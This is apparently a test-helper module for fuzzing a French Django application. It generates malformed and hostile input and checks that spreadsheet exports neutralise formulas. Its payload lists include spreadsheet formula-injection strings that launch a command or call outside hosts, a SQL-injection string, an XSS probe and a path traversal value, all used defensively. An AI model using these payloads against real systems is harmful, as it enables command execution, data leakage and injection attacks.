"""Hostile and malformed input for the property-based tests: strategies
(random bytes, wrong encodings, huge fields, spreadsheet formulas) and the
checks they share (database unchanged, values fit their columns, exported
cells never read as formulas)."""

import contextlib
import csv
import io
import re

from django.db import models, transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# Reproducible in CI: a fixed derivation of the examples, no deadline (the
# first example pays for the database fixtures).
PROPERTY = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
FEW = settings(PROPERTY, max_examples=8)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d\s.,]*%?$", re.ASCII)

FORMULAS = [
    "=1+1",
    '==HYPERLINK("http://exemple.invalid";"ici")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x.invalid/?";A1);"//a")',
    "-1",
    "+33 1 23 45 67 89",
    "12,5 %",
]
FRENCH_WORDS = [
    "Hôpital", "Établissement", "Sœur", "Côte-d’Or", "Saint-Étienne", "l’Isle", "Marne-la-Vallée", "Orléans",
    "Besançon", "Évreux", "Château-Thierry", "Pointe-à-Pitre", "Hyères", "Cœur", "Noël", "Ÿvré", "Crèche",
    "Gériatrie", "Forêt", "Île-de-France", "Aÿ", "naïf", "« Pôle »", "coût €", "Centre", "Mantes",
]  # fmt: skip

# Text a user can type: anything but NUL (which forms refuse) and surrogates.
typed_text = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=60)
# A huge field: larger than the csv module's default field limit (131,072).
huge_text = st.builds(lambda char, n: char * n, st.sampled_from('aé=;,"x9 '), st.integers(1_000, 140_000))
hostile_text = st.one_of(typed_text, st.sampled_from(FORMULAS), typed_text.map(lambda t: "=" + t), huge_text)
short_hostile_text = st.one_of(typed_text, st.sampled_from(FORMULAS), typed_text.map(lambda t: "=" + t))
french_text = st.lists(st.sampled_from(FRENCH_WORDS), min_size=1, max_size=4).map(" ".join)


def encodings(text: str) -> dict[str, bytes]:
    """The same text as French exports write it."""
    return {
        "utf-8": text.encode("utf-8"),
        "utf-8-sig": text.encode("utf-8-sig"),
        "cp1252": text.encode("cp1252"),
    }


def with_encoding(text_strategy):
    """Bytes of hostile text in a plausible or wrong encoding, or random bytes."""
    return st.one_of(
        st.binary(max_size=3000),
        st.tuples(text_strategy, st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "cp1252", "utf-16"])).map(
            lambda pair: pair[0].encode(pair[1], errors="replace")
        ),
    )


@contextlib.contextmanager
def rolled_back():
    """Each example runs in a savepoint rolled back at its end: the examples
    of one test share the test's transaction and must not see each other."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def counts(*model_classes) -> dict:
    return {model._meta.label: model.objects.count() for model in model_classes}


def assert_fits_columns(*model_classes):
    """Every stored text fits its column: SQLite does not enforce
    ``max_length``, PostgreSQL refuses the whole transaction."""
    for model in model_classes:
        fields = [f for f in model._meta.concrete_fields if isinstance(f, models.CharField) and f.max_length]
        for row in model.objects.values_list(*[f.attname for f in fields]):
            for field, value in zip(fields, row, strict=True):
                assert value is None or len(value) <= field.max_length, (model.__name__, field.name, value[:80])


def is_french(message: str) -> bool:
    """A user-facing message in French (not a Python exception's text)."""
    english = ("invalid literal", "Traceback", "Error", "codec can't", "object has no attribute", "expected")
    return bool(message) and not any(word in message for word in english)


def neutral_cell(value) -> bool:
    """A cell a spreadsheet will not evaluate: not text, or text that does
    not start like a formula, or a plain number."""
    if not isinstance(value, str):
        return True
    return not value.startswith(FORMULA_START) or bool(PLAIN_NUMBER.match(value))


def expected_cell(text: str) -> str:
    """What a user's text should become in an export."""
    return "'" + text if text.startswith(FORMULA_START) and not PLAIN_NUMBER.match(text) else text


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[list]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    return [[cell.value for cell in row] for sheet in book.worksheets for row in sheet.iter_rows()]


def xlsx_formulas(content: bytes) -> list:
    """Cells that openpyxl reads as formulas."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    return [
        cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


# --- Tampered request parameters (tests/test_view_fuzzing.py) ---------------------------------------

TAMPERED_VALUES = [
    "", " ", "0", "-1", "-0", "+5", " 5 ", "1.5", "1,5", "1e3", "1e309", "-1e309", "nan", "inf", "-inf", "0x10",
    "٣", "²", "１２", "½", "\x00", "a\x00b", "null", "None", "true", "[]", "{}", "../", "%00", "' OR 1=1 --",
    "2025-02-30", "9999-12-31", "0001-01-01", "10000-01-01", "2025-13-01", "01/02/2025", "-2025",
    "2147483648", "-2147483649", "9223372036854775808", "-9223372036854775809", "99999999999999999999999999",
    "<script>alert(1)</script>", "é" * 300, "=1+1", "1:2", "1|2", "a,b", "🏥",
]  # fmt: skip
# Anything a client can put in a form or a query string: every character but
# lone surrogates, which no request can encode.
any_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
long_text = st.builds(lambda char, n: char * n, st.sampled_from("a9é\x00-= "), st.integers(1_000, 20_000))
huge_int = st.integers(min_value=-(10**40), max_value=10**40).map(str)
# Numbers out of range or malformed break more parsers than text does: they weigh more.
numeric_edges = st.sampled_from(["-1", "0", "-0", "1e309", "nan", "1.5", "abc", "", "\x00", "99999999999999999999"])
small_int = st.integers(-3, 3).map(str)
tampered_scalar = st.one_of(numeric_edges, small_int, huge_int, st.sampled_from(TAMPERED_VALUES), any_text, long_text)
# The same value in every parameter at once: each parser meets each of these in
# one request (a form validates all its fields, whatever the others hold).
SWEEP = ["-1", "0", "99999999999999999999", "abc", "\x00", "1e309", "", ["1", "-1"]]

# Django's own English messages (and Python's): a page in French shows none of them.
ENGLISH_ERRORS = (
    "This field is required",
    "Enter a valid",
    "Select a valid choice",
    "Ensure this value",
    "Ensure that there are no more than",
    "Enter a whole number",
    "Enter a number",
    "Null characters are not allowed",
    "The submitted file is empty",
    "No file was submitted",
    "The submitted data was not a file",
    "ManagementForm data is missing",
    "Please submit at most",
    "Please submit at least",
    "Please correct the duplicate",
    "is not one of the available choices",
    "is not a valid",
    "already exists",
    "invalid literal",
    "Traceback",
    "object has no attribute",
)
_NOT_TEXT = re.compile(r"<(script|style)\b.*?</\1>|<[^>]+>", re.DOTALL | re.IGNORECASE)


def english_errors(page: str) -> list[str]:
    """The English error messages a page's text shows (markup and scripts left aside)."""
    text = _NOT_TEXT.sub(" ", page)
    return [message for message in ENGLISH_ERRORS if message in text]
